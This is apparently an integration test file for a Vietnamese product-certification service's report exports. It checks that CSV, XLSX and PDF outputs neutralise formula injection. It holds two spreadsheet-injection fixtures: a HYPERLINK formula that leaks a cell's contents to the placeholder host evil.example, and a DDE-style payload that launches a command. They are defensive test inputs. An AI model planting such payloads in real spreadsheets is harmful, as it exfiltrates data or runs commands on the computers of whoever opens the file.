import { parse } from 'csv-parse/sync';
import { Workbook } from 'exceljs';
import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { expectStatus } from '../../test/flows';
import { RatingHarness, startRating } from '../../test/rating-harness';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem chi tiết")';
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";

/**
 * A producer's name and its product's name reach rating through catalogue's events and end up in the
 * coordination office's spreadsheets: they must arrive there as text, never as formulas.
 */
describe('report CSVs: formula injection (integration)', () => {
  let h: RatingHarness;
  let officer: string;

  beforeAll(async () => {
    h = await startRating('reports_csv');
    const producerId = await h.seedProducer({ name: HYPERLINK });
    const productId = await h.seedProduct({ producerId, nameVi: SUM, productSet: 1 });
    await h.readModelHas('product_views', [productId]);
    officer = await h.token({ roles: ['officer'], scope: { provinceCode: '83' } });
    h.clock.set(new Date('2022-05-01T03:00:00Z'));
    expectStatus(
      await h.request('POST', '/certificates/import?dryRun=false', {
        token: officer,
        raw: {
          contentType: 'text/csv',
          payload: `product_id,product_name,producer_name,stars,decision_ref,decision_date\n${productId},,,4,-12/QĐ-UBND,2022-04-15`,
        },
      }),
      200,
    );
  });

  afterAll(async () => {
    await h?.close();
  });

  it('writes the certified products with producer-controlled names neutralised, figures unchanged', async () => {
    const res = await h.request('GET', '/reports/certified-products.csv?at=2022-06-30', { token: officer });
    expect(res.status).toBe(200);
    const text = res.raw.toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parse(text, { bom: true }) as string[][];
    expect(rows).toHaveLength(1);
    const cell = (column: string) => rows[0][header.indexOf(column)];
    expect(cell('Sản phẩm / Product')).toBe(`'${SUM}`);
    expect(cell('Chủ thể / Producer')).toBe(`'${HYPERLINK}`);
    expect(cell('Quyết định / Decision')).toBe("'-12/QĐ-UBND");
    expect(cell('Sao / Stars')).toBe('4');
    for (const value of rows[0]) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps the coverage CSV as it was: one row per commune, counts as numbers', async () => {
    const res = await h.request('GET', '/reports/coverage.csv?map=bt-2022&at=2022-06-30', {
      token: officer,
    });
    const [, ...rows] = parse(res.raw.toString('utf8'), { bom: true }) as string[][];
    expect(rows).toHaveLength(157);
    expect(rows.filter((r) => r[4] === '1' && r[5] === 'có / yes')).toHaveLength(1);
  });

  it('exports the same table as XLSX whose cells are typed values: text stays text, never a formula', async () => {
    const res = await h.request('GET', '/reports/certified-products?at=2022-06-30&format=xlsx', {
      token: officer,
    });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers['content-disposition']).toContain('san-pham-ocop-bt-2022-2022-06-30.xlsx');
    const workbook = new Workbook();
    await workbook.xlsx.load(res.raw as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    expect(sheet.rowCount).toBe(2);
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const cell = (column: string) => sheet.getRow(2).getCell(header.indexOf(column) + 1);
    // Exactly what the producer typed, as a string cell: no formula, and no ' added (XLSX says what a cell is).
    for (const [column, value] of [
      ['Sản phẩm / Product', SUM],
      ['Chủ thể / Producer', HYPERLINK],
      ['Quyết định / Decision', '-12/QĐ-UBND'],
    ]) {
      expect(cell(column).value).toBe(value);
      expect(cell(column).formula).toBeUndefined();
    }
    sheet.eachRow((row) => row.eachCell((c) => expect(c.formula).toBeUndefined()));
    expect(cell('Sao / Stars').value).toBe(4);
    // Dates are date cells of the Vietnamese calendar day, shown dd/mm/yyyy: decided 15/04/2022, valid through 15/04/2025.
    expect(cell('Ngày cấp / Issued').value).toEqual(new Date('2022-04-15T00:00:00Z'));
    expect(cell('Hiệu lực đến hết ngày / Valid through').value).toEqual(new Date('2025-04-15T00:00:00Z'));
    expect(cell('Ngày cấp / Issued').numFmt).toBe('dd/mm/yyyy');
    const csv = await h.request('GET', '/reports/certified-products.csv?at=2022-06-30', { token: officer });
    const [csvHeader, csvRow] = parse(csv.raw.toString('utf8'), { bom: true }) as string[][];
    expect(csvRow[csvHeader.indexOf('Ngày cấp / Issued')]).toBe('15/04/2022');
    expect(csvRow[csvHeader.indexOf('Hiệu lực đến hết ngày / Valid through')]).toBe('15/04/2025');
  });

  /** The PDF's text as poppler extracts it, one string per page. */
  async function pdfPages(pdf: Buffer): Promise<string[]> {
    const dir = await mkdtemp(join(tmpdir(), 'ocop-report-pdf-'));
    try {
      await writeFile(join(dir, 'r.pdf'), pdf);
      const { stdout } = await promisify(execFile)('pdftotext', ['-layout', join(dir, 'r.pdf'), '-']);
      return stdout.split('\f').filter((page) => page.trim());
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  }

  it('exports the figures as a PDF for the Department’s file: title, the coverage figure, Vietnamese numbers', async () => {
    const res = await h.request('GET', '/reports/kpis/export?map=bt-2022&at=2022-06-30&format=pdf', {
      token: officer,
    });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toContain('chi-tieu-ocop-bt-2022-2022-06-30.pdf');
    const [page, ...more] = await pdfPages(res.raw);
    expect(more).toEqual([]);
    expect(page).toContain('Chỉ tiêu OCOP ngày 30/06/2022 / OCOP figures as of 2022-06-30');
    // One commune of 157 covered: 0.64 %, written as a Vietnamese report writes it.
    expect(page).toMatch(
      /Xã có sản phẩm OCOP từ 3 sao \/ Communes with a 3★\+ OCOP(?: product)?\s+1\s+157\s+0,64\n/,
    );
    expect(page).toContain('Trang 1/1');
  });

  it('repeats the header on every page of a long PDF and numbers the pages', async () => {
    const res = await h.request('GET', '/reports/coverage?map=bt-2022&at=2022-06-30&format=pdf', {
      token: officer,
    });
    expect(res.status).toBe(200);
    const pages = await pdfPages(res.raw);
    expect(pages.length).toBeGreaterThan(1);
    pages.forEach((text, i) => {
      expect(text).toMatch(/^\s*Mã xã \/\s+Tên xã \/ Commune/m);
      expect(text).toContain(`Trang ${i + 1}/${pages.length}`);
    });
    // Every commune is there once: 157 five-digit codes at the start of a row.
    const codes = pages.join('\n').match(/^\s*\d{5}\s/gm) ?? [];
    expect(codes).toHaveLength(157);
  });
});
